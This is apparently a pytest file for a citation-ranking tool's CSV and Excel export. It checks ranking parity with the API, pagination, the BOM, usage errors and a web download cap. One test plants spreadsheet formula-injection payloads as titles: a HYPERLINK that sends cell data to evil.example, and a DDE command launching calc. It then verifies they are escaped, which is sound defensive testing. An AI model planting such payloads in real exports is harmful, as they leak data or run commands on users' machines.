"""The rankings of works as a spreadsheet: `citelens top --csv/--excel` and /top.csv (rankings.top_works_rows)."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from citelens.cli import main
from citelens.rankings import TOP_WORKS_CSV_FIELDS
from citelens.spreadsheet import EXCEL_BOM
from citelens.web.app import create_app
from citelens.web.settings import Settings


@pytest.fixture(scope="module")
def client(demo_db: Path) -> TestClient:
    with TestClient(create_app(demo_db, Settings(secret_key="k"))) as c:
        yield c


def cli_csv(db: Path, *args: str) -> str:
    result = CliRunner().invoke(main, ["top", "--db", str(db), *args])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode("utf-8")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def api_ranking(client: TestClient, by: str, conf: str | None) -> list[dict]:
    works, page = [], 1
    while True:
        params = {"by": by, "per_page": 100, "page": page, **({"min_confidence": conf} if conf else {})}
        body = client.get("/api/works/top", params=params).json()
        works += body["works"]
        if page >= body["pages"]:
            return works
        page += 1


@pytest.mark.parametrize("by", ["cited", "supporting", "contrasting"])
@pytest.mark.parametrize("conf", [None, "auto"])
def test_the_csv_is_the_api_ranking_every_work_of_it(demo_db: Path, client: TestClient, by: str,
                                                      conf: str | None) -> None:
    """Without --page the CSV holds every work the ranking has, in its order, with the API's counts and tallies
    at the same threshold; /top.csv gives the CLI's bytes; with --page it is that page."""
    conf_args = ["--min-confidence", conf] if conf else []
    text = cli_csv(demo_db, "--by", by, "--csv", *conf_args)
    rows = rows_of(text)
    assert list(rows[0]) == list(TOP_WORKS_CSV_FIELDS) if rows else True
    expected = api_ranking(client, by, conf)
    assert len(rows) == len(expected) and expected, (by, conf)
    for row, w in zip(rows, expected, strict=True):
        t = w["tallies"]
        assert row == {
            "rank": str(w["rank"]), "work_id": w["id"], "doi": w["doi"], "title": row["title"],
            "year": str(w["year"] or ""), "journal": row["journal"], "count": str(w["count"]),
            "supporting": str(t["supporting"]), "contrasting": str(t["contradicting"]),
            "mentioning": str(t["mentioning"]), "total": str(t["total"]),
            "citing_publications": str(t["citingPublications"]), "retracted": str(w["retracted"]),
            "notices": "; ".join(f"{n['status']} ({n['date']})" if n["date"] else n["status"]
                                 for n in w["editorialNotices"]),
            "ranked_by": by, "min_confidence": row["min_confidence"]}
        assert row["title"].lstrip("'") == w["title"] and row["journal"].lstrip("'") == w["journal"]
        assert (row["min_confidence"] == "") == (conf is None)
    params = {"by": by, **({"min_confidence": conf} if conf else {})}
    web = client.get("/top.csv", params=params)
    assert web.status_code == 200 and web.headers["content-type"].startswith("text/csv")
    assert web.content.decode("utf-8") == text
    page = rows_of(cli_csv(demo_db, "--by", by, "--csv", "--page", "2", "--per-page", "3", *conf_args))
    assert page == rows[3:6]
    assert rows_of(client.get("/top.csv", params={**params, "page": 2, "per_page": 3}).text) == rows[3:6]


def test_excel_bom_only_when_asked_and_csv_with_json_is_a_usage_error(demo_db: Path, client: TestClient) -> None:
    plain = cli_csv(demo_db, "--csv")
    assert not plain.startswith(EXCEL_BOM) and plain.startswith("rank,work_id,")
    assert cli_csv(demo_db, "--excel") == EXCEL_BOM + plain
    assert client.get("/top.csv").content.decode("utf-8") == plain
    excel = client.get("/top.csv", params={"excel": 1})
    assert excel.content.decode("utf-8") == EXCEL_BOM + plain
    assert excel.headers["content-disposition"] == 'attachment; filename="top-cited.csv"'
    sure = client.get("/top.csv", params={"by": "contrasting", "min_confidence": "auto", "page": 1})
    assert sure.headers["content-disposition"] == 'attachment; filename="top-contrasting-sure-auto-page-1.csv"'
    for args in (["--csv", "--json"], ["--excel", "--json"]):
        result = CliRunner().invoke(main, ["top", "--db", str(demo_db), *args])
        assert result.exit_code == 2 and "choose one of --json and --csv" in result.output
    assert client.get("/top.csv", params={"by": "mentioning"}).status_code == 400
    assert client.get("/top.csv", params={"page": 1, "per_page": 101}).status_code == 400
    # The /top page links its own ranking's spreadsheet, for Excel.
    html = client.get("/top", params={"by": "supporting", "min_confidence": "auto"}).text
    assert 'href="/top.csv?by=supporting&amp;min_confidence=auto&amp;excel=1"' in html
    assert "Download as CSV" in html


def test_titles_that_look_like_formulas_are_text_in_the_spreadsheet(demo_db: Path, tmp_path: Path) -> None:
    """A title from an ingested file that starts with =, +, - or @ would run as a formula when the CSV is
    opened: it is written with an apostrophe in front, as every other CSV export does; counts stay numbers."""
    db = tmp_path / "hostile.db"
    db.write_bytes(demo_db.read_bytes())
    first = rows_of(cli_csv(db, "--csv", "--page", "1", "--per-page", "4"))
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    con = sqlite3.connect(db)
    for row, title in zip(first, hostile, strict=True):
        con.execute("UPDATE works SET title = ?, container = ? WHERE id = ?", (title, title, int(row["work_id"][1:])))
    con.commit()
    con.close()
    rows = rows_of(cli_csv(db, "--csv", "--page", "1", "--per-page", "4"))
    assert [r["title"] for r in rows] == ["'" + t for t in hostile]
    assert [r["journal"] for r in rows] == ["'" + t for t in hostile]
    assert [r["count"] for r in rows] == [r["count"] for r in first] and all(r["count"].isdigit() for r in rows)


def test_the_web_download_holds_at_most_its_cap_and_says_so(demo_db: Path, client: TestClient,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """/top.csv is answered to anyone: the whole ranking of the 1 M-statement benchmark took 4.7 s of CPU and
    22.6 MB a request, so the web's file holds the first TOP_CSV_WEB_MAX works (the CLI writes every one), and
    the /top page's link says so when the ranking is longer."""
    import citelens.web.pages as pages

    monkeypatch.setattr(pages, "TOP_CSV_WEB_MAX", 5)
    everything = rows_of(cli_csv(demo_db, "--by", "cited", "--csv"))
    assert len(everything) > 5
    assert rows_of(client.get("/top.csv").text) == everything[:5]
    hint = client.get("/top").text.split('id="csv-link"')[1].split("</p>")[0]
    assert f"its first 5 works of {len(everything)}" in hint and "citelens top --csv" in hint
